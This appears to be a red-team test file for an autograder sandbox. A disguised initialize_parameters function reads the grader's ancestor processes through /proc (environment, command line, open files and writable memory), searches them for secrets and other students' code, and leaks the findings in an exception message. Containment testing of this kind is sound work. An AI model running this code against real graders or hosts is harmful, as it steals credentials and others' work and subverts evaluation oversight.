# RED-TEAM ATTACK (issue 9): read the grader's own processes through /proc.
# Route: for the parent and every ancestor: /proc/<pid>/environ (the grader's environment, with any
#   token an instructor exported), cmdline (where the reports go), the targets of its open fds, and
#   /proc/<pid>/mem over its writable mappings, searched for secrets and other students' code.
# Contained when: none of it reaches the report, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import os

LEAK = "REDTEAM" + "-LEAK: "
NEEDLES = (b"REDTEAM_" + b"SECRET=", b"honest" + b"-canary-")


def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 16:
        pids.append(pid)
        try:
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return pids


def _memory(pid, found):
    with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb") as mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if not fields[1].startswith("rw") or end - start > 1 << 28:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            for needle in NEEDLES:
                at = data.find(needle)
                if at >= 0:
                    found.append("mem of %d: %s" % (pid, data[at:at + 70].split(b"\0")[0].decode("ascii", "replace")))


def initialize_parameters(n_x, n_h, n_y):
    loot = []
    for pid in _ancestors():
        for what in ("environ", "cmdline"):
            try:
                with open("/proc/%d/%s" % (pid, what), "rb") as handle:
                    text = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
                loot.append("%s of %d: %s" % (what, pid, text[:300]))
            except Exception:
                pass
        try:
            fds = os.listdir("/proc/%d/fd" % pid)
            loot.append("fds of %d: %s" % (pid, [os.readlink("/proc/%d/fd/%s" % (pid, fd)) for fd in fds][:12]))
        except Exception:
            pass
        try:
            _memory(pid, loot)
        except Exception:
            pass
    if loot:
        raise RuntimeError(LEAK + " || ".join(loot))
    raise RuntimeError("no /proc of the parent")
